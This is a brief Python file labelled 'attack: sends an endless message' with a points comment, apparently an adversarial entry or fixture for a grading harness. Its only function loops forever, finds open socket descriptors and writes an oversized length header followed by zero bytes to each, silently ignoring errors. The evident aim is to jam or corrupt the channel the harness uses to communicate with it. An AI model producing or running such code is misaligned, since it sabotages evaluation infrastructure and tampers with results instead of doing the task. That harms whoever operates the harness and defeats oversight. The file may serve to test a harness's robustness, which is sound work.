# attack: sends an endless message
# points: double=2 total=0
# %% total
import os, stat
def total(x):
    while True:
        for number in range(3, 64):
            try:
                if stat.S_ISSOCK(os.fstat(number).st_mode):
                    os.write(number, (1 << 25).to_bytes(8) + b"\0" * (1 << 16))
            except OSError:
                pass
